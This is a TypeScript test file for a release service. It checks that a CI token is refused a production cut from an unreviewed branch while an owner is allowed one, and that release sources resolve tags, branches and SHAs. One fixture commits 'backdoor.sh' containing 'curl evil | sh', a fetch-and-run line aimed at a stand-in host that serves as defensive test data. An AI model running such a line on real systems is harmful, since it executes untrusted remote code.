// A ci token cuts production releases only from trunk's history (issue 10, finding 7): a commit that is
// only on an unreviewed branch is refused with 403 and the release name stays free; an owner may cut
// from it. A cut's `from` is a branch, a tag (light or annotated) or a SHA, as on a real project (issue 11).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { git } from '../activities/git/run.ts';
import { createRemote } from './helpers/git-fixture.ts';
import type { GitFixture } from './helpers/git-fixture.ts';
import { startStack, unique } from './helpers/stack.ts';
import type { Stack } from './helpers/stack.ts';

describe('who may cut from where', () => {
  let stack: Stack;
  let repo: GitFixture;
  beforeAll(async () => {
    stack = await startStack();
    repo = await createRemote();
  });
  afterAll(async () => {
    await stack?.stop();
    await repo?.cleanup();
  });

  it('refuses a ci token a production cut off trunk, and lets an owner make it', async () => {
    const product = unique('cuts');
    const onTrunk = await repo.commit({ 'README.md': 'cuts\n' }, 'initial');
    await repo.push();
    await repo.branch('unreviewed');
    const offTrunk = await repo.commit({ 'backdoor.sh': 'curl evil | sh\n' }, 'not reviewed', 'unreviewed');
    await repo.push('unreviewed');
    expect((await stack.call('POST', '/v1/products', { body: { name: product, repository: repo.remote, flow: 'cherry-pick', trunk: 'main', owners: ['olivia'] } })).status).toBe(201);
    const ci = await stack.token('ci-bot', 'ci', [product]);
    const owner = await stack.token('olivia', 'owner', [product]);
    const releases = `/v1/products/${product}/releases`;

    for (const from of [offTrunk, 'unreviewed']) {
      const refused = await stack.call('POST', releases, { token: ci, body: { name: '1.0', from } });
      expect(refused.status, refused.text).toBe(403);
      expect(refused.body.code).toBe('forbidden');
      expect((await stack.call('GET', `${releases}/1.0`, { token: owner })).status, 'the name stays free').toBe(404);
    }
    const fromTrunk = await stack.call('POST', releases, { token: ci, body: { name: '0.9', from: onTrunk } });
    expect(fromTrunk.status, fromTrunk.text).toBe(201);
    const byOwner = await stack.call('POST', releases, { token: owner, body: { name: '1.0', from: offTrunk } });
    expect(byOwner.status, byOwner.text).toBe(201);
  });

  it('cuts from a tag, light or annotated, written plain or as refs/tags/, from a branch, or from a SHA', async () => {
    const product = unique('tags');
    const old = await repo.commit({ 'version.txt': '3.18.0\n' }, 'release 3.18.0');
    const newer = await repo.commit({ 'version.txt': '4.0.0\n' }, 'release 4.0.0');
    await repo.push();
    await repo.branch('maint-3');
    const onMaint = await repo.commit({ 'maint.txt': 'x\n' }, 'a fix on the old line', 'maint-3');
    await repo.push('maint-3');
    // Tags made on the remote after the mirror was made, as a project's release script would.
    await git(['tag', '3.18.0', old], { cwd: repo.remote });
    await git(['-c', 'user.name=r', '-c', 'user.email=r@x', 'tag', '-a', 'v4.0.0', '-m', 'four', newer], { cwd: repo.remote });
    await git(['tag', 'deadbeef', onMaint], { cwd: repo.remote });
    expect((await stack.call('POST', '/v1/products', { body: { name: product, repository: repo.remote, flow: 'cherry-pick', trunk: 'main' } })).status).toBe(201);
    const releases = `/v1/products/${product}/releases`;
    const cases: [string, string][] = [
      ['3.18.0', old], ['v4.0.0', newer], ['refs/tags/3.18.0', old], ['refs/tags/v4.0.0', newer],
      ['maint-3', onMaint], ['refs/heads/maint-3', onMaint], [newer.slice(0, 10), newer],
      // A tag whose name looks like a SHA that names no commit is still the tag.
      ['deadbeef', onMaint],
    ];
    for (const [n, [from, sha]] of cases.entries()) {
      const cut = await stack.call('POST', releases, { body: { name: `r${n}`, from } });
      expect(cut.status, `${from}: ${cut.text}`).toBe(201);
      expect([from, cut.body.cutFrom, cut.body.headSha]).toEqual([from, sha, sha]);
    }
    const unknown = await stack.call('POST', releases, { body: { name: 'none', from: '9.9.9' } });
    expect([unknown.status, unknown.body.code, unknown.body.message]).toEqual([422, 'unknown_commit', expect.stringMatching(/not a branch, tag or commit/)]);
    for (const bad of ['refs/tags/a..b', 'refs/tags/x.lock', 'a..b']) {
      const refused = await stack.call('POST', releases, { body: { name: 'bad', from: bad } });
      expect([bad, refused.status]).toEqual([bad, 400]);
    }
    expect((await stack.call('GET', `${releases}/none`)).status, 'a refused cut leaves the name free').toBe(404);
  });
});
